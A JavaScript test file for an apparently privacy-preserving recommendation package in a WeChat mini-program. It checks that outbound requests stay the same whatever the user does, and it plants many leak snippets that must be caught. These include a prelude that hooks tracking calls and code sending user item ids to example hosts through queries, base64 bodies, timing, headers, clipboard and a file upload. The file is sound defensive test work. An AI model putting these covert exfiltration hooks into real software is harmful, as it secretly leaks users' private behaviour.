// Nothing leaves: the whole package, with a page and its components, runs twice with the same lifecycle and different
// behaviour. Whatever is asked of the client (name, arguments, order, number, size, time) must be the same, byte for byte.
// Leaks of many kinds are then planted, and each must be caught.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { Phone } from './harness/phone.mjs'
import { manifest, publish, root } from './harness/publisher.mjs'
import { goods, schema } from './harness/shop.mjs'

const SHARD = 20
const SHARDS = 12
const SHELF = 'https://cdn.example.com/shop/shelf-'

const PAGE = `
const zhiji = require('zhiji').open(options)
Page({
  data: { list: [] },
  onLoad() { this.zhiji = zhiji; this.feed = zhiji.feed('home', { pool: 30 }); this.shard = 0 },
  more() {
    const show = () => {
      const next = this.feed.next(8)
      /* shown */
      this.setData({ list: this.data.list.concat(next) })
    }
    if (!this.feed.wants()) return show()
    wx.request({ url: '${SHELF}' + this.shard++, success: (answer) => { this.feed.push(shelf(answer.data)); show() } })
  },
  onShareAppMessage() { return { path: '/pages/home/home' /* share */ } },
})`

/** What the user does with the page at one step; anything but the lifecycle. */
const BEHAVIOURS = {
  nothing() {},
  reader({ page, feed, own }) {
    page.data.list.forEach((item, at) => { if (item.category === '图书') feed.call('onTap', own({ index: at })) })
    for (let count = 0; count < 600; count++) page.zhiji.track('open', page.data.list[0].id)
  },
  grumbler({ page, feed, own, step }) {
    page.data.list.forEach((item, at) => feed.visible(at, at % 2))
    const card = page.data.list[step]
    if (card) feed.call('onDislike', own({ id: card.id, code: 1 }))
    if (step === 2) page.zhiji.block('category', '女装')
    if (step === 3) page.zhiji.forget(own({ field: 'category', value: '图书' }))
    if (step === 4) page.zhiji.exportData()
  },
  visitor({ page, feed, step }) {
    const last = page.data.list.length - 1
    feed.visible(last, 1)
    const visit = page.zhiji.visit(page.data.list[last].id)
    page.zhiji.track('purchase', page.data.list[step % 2 ? 0 : last].id, {})
    visit.end()
    page.zhiji.interests()
    page.zhiji.explain(page.data.list[0].id)
  },
}

/**
 * Two starts of the mini-program with the same lifecycle.
 * @param {(given: any) => void} behave
 * @param {{package?: string, page?: (source: string) => string}} leak
 * @param {{rankMs?: (tier: number, candidates: number) => number, tiers?: number}} how
 */
async function outboundOf(behave, leak = {}, how = {}) {
  const phone = new Phone()
  for (let shard = 0; shard < SHARDS; shard++) phone.network.set(SHELF + shard, new TextEncoder().encode(JSON.stringify(goods(shard * SHARD, SHARD))))
  const calls = []
  // The user acts at the times of the script, however long the phone computes in between.
  let scriptMs = phone.clock.nowMs
  const wait = (ms) => {
    scriptMs += ms
    assert.ok(scriptMs >= phone.clock.nowMs, 'the phone computes longer than the script waits')
    return phone.clock.advance(scriptMs - phone.clock.nowMs)
  }
  for (const start of [1, 2]) {
    publish(phone, { version: start, bias: start / 4, tiers: how.tiers })
    const process = phone.start({ rankMs: how.rankMs, patch: (source, file) => (file === 'index.js' && leak.package ? source + PRELUDE + leak.package : source) })
    const options = process.own({ schema, manifest, root, policyVersion: '1' })
    const shelf = (data) => process.own(JSON.parse(new TextDecoder().decode(data)))
    const source = leak.page ? leak.page(PAGE) : PAGE
    assert.ok(!leak.page || source !== PAGE, 'the leak was not planted')
    const page = process.page(source, { options, shelf })
    page.onLoad()
    await wait(300)
    if (start === 1) page.zhiji.consent.grant(process.own({ policyVersion: '1' }))
    await wait(700)
    const feed = process.component('components/feed/index.js', { surface: 'home', list: [] })
    for (let step = 0; step < 6; step++) {
      page.more()
      await wait(500)
      feed.set({ list: page.data.list })
      await wait(300)
      behave({ page, feed, own: (value) => process.own(value), step, start })
      await wait(1200)
    }
    process.hide()
    await wait(4000)
    process.show()
    await wait(7 * 3600 * 1000)
    process.hide()
    process.show()
    await wait(10000)
    process.record('share', page.onShareAppMessage())
    feed.detach()
    process.hide()
    await wait(5000)
    process.kill()
    // Without it the next start folds the whole record, which takes its time.
    phone.disk.remove('snapshot')
    calls.push(...process.outbound)
  }
  return calls
}

/** What a planted leak in the package finds: everything that is tracked, and the client. */
const PRELUDE = `
const seen = []
const client = wx
const realOpen = module.exports.open
const leaks = { tracked() {}, opened() {} }
module.exports.open = (options) => {
  const handle = realOpen(options)
  const track = handle.track
  handle.track = (action, id, detail) => { seen.push(action + id); leaks.tracked(action, id); return track(action, id, detail) }
  leaks.opened(handle)
  return handle
}
wx.onAppHide(() => leaks.hidden && leaks.hidden())
`

const intercept = (change) => `const inner = wx; wx = new Proxy(inner, { get: (target, name) => name === 'request' ? (args) => target.request((${change})(args)) : target[name] });`

/** Each a few lines that a dishonest or careless change might bring. */
const LEAKS = {
  'an id in a query': { package: "leaks.tracked = (action, id) => wx.request({ url: 'https://cdn.example.com/p?i=' + id })" },
  'an id in base 64 in a body': { package: `
    const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
    const hidden = () => seen.join().split('').map((c) => digits[c.charCodeAt(0) & 63]).join('').slice(0, 40).padEnd(40, 'A')
    leaks.hidden = () => wx.request({ url: 'https://cdn.example.com/p', method: 'POST', data: hidden() })` },
  'the length of a body': { package: "leaks.hidden = () => wx.request({ url: 'https://cdn.example.com/p', method: 'POST', data: 'x'.repeat(seen.length % 50) })" },
  'the order of two requests': { package: `
    leaks.hidden = () => {
      const two = ['https://cdn.example.com/a', 'https://cdn.example.com/b']
      if (seen.length % 2) two.reverse()
      two.forEach((url) => wx.request({ url }))
    }` },
  'the time of a request': { package: "leaks.hidden = () => setTimeout(() => wx.request({ url: 'https://cdn.example.com/a' }), seen.length % 60)" },
  'a header': { package: intercept("(args) => Object.assign({}, args, { header: { 'if-none-match': String(seen.length) } })") },
  'a part of the manifest\'s address': { package: intercept("(args) => Object.assign({}, args, { url: args.url + '#' + seen.length % 7 })") },
  'one request more': { package: "leaks.hidden = () => { if (seen.length > 20) wx.request({ url: 'https://cdn.example.com/shop/manifest.json' }) }" },
  'the bundle fetched again': { package: intercept("(args) => { if (/bundles/.test(args.url)) leaks.hidden = () => { if (seen.length) client.request({ url: args.url }) }; return args }") },
  'an event of the client\'s analytics': { package: "leaks.tracked = (action, id) => wx.reportEvent('zhiji', { action, id })" },
  'a number in the shared storage': { package: "leaks.tracked = () => wx.setStorageSync('n', seen.length)" },
  'a file beside the package\'s own': { package: "leaks.hidden = () => wx.getFileSystemManager().writeFile({ filePath: wx.env.USER_DATA_PATH + '/a', data: new ArrayBuffer(seen.length % 90) })" },
  'the record read from the files and uploaded': { package: `
    leaks.hidden = () => wx.getFileSystemManager().readFile({ filePath: wx.env.USER_DATA_PATH + '/zhiji/shop/guest/log-0-0',
      success: (answer) => wx.uploadFile({ url: 'https://cdn.example.com/u', size: answer.data.byteLength }) })` },
  'the clipboard': { package: "leaks.tracked = (action, id) => wx.setClipboardData({ data: id })" },
  'a request that waits for the record to be read': { package: "leaks.opened = (handle) => { handle.ready().then(() => wx.request({ url: 'https://cdn.example.com/ready' })) }" },
  'a request that leaves as soon as it can': { package: `
    const timer = setTimeout
    setTimeout = (work, delayMs) => timer(work, delayMs > 1500 && delayMs <= 2000 ? 0 : delayMs)` },
  'pictures in the order of interest': { page: (source) => source.replace('/* shown */', "for (const item of next) item.image = 'https://img.example.com/' + item.id") },
  'an interest in the path of a share': { page: (source) => source.replace('/* share */', "+ '?i=' + (zhiji.interests()[0] || {}).value") },
  'shelves fetched by what is left after blocks': { page: (source) => source.replace('if (!this.feed.wants())', "if (zhiji.blocks().length || !this.feed.wants())") },
}

const shown = (calls) => calls.map((call) => JSON.stringify(call)).join('\n')
/** @type {Map<string, string>} */
const honest = new Map()

test('whatever the user does, what is asked of the client is the same', async () => {
  for (const [name, behave] of Object.entries(BEHAVIOURS)) honest.set(name, shown(await outboundOf(behave)))
  const calls = honest.get('nothing')
  for (const [name, other] of honest) {
    const [mine, theirs] = [calls.split('\n'), other.split('\n')]
    mine.forEach((call, at) => assert.equal(theirs[at], call, `${name}, call ${at}`))
    assert.equal(theirs.length, mine.length, name)
  }
  // The lifecycle did what it should: both versions came, twice the manifest was asked for in one start, shelves were fetched.
  assert.equal(calls.match(/bundles\//g).length, 2)
  assert.equal(calls.match(/manifest\.json/g).length, 4)
  assert.ok(calls.match(/shelf-/g).length >= 6)
})

test('a slow phone steps down for one user and not for another, and nothing that is asked of the client differs', async () => {
  // Who has done nothing sees the page's own order, which costs nothing; the others rank by the model.
  const tiersOf = async (behave) => {
    const tiers = new Set()
    const rankMs = (tier) => {
      tiers.add(tier)
      return [70, 30, 3][tier]
    }
    const calls = shown(await outboundOf(behave, {}, { rankMs, tiers: 3 }))
    return { tiers: Array.from(tiers).sort().join(), calls }
  }
  const nothing = await tiersOf(BEHAVIOURS.nothing)
  const reader = await tiersOf(BEHAVIOURS.reader)
  assert.deepEqual([nothing.tiers, reader.tiers], ['', '0,1,2'])
  assert.equal(reader.calls, nothing.calls)
})

for (const [name, leak] of Object.entries(LEAKS)) {
  test(`caught: ${name}`, async () => {
    const reference = shown(await outboundOf(BEHAVIOURS.nothing, leak))
    let caught = false
    for (const behave of [BEHAVIOURS.reader, BEHAVIOURS.grumbler, BEHAVIOURS.visitor]) {
      caught = caught || shown(await outboundOf(behave, leak)) !== reference
    }
    assert.ok(caught, 'the outbound calls do not differ')
  })
}
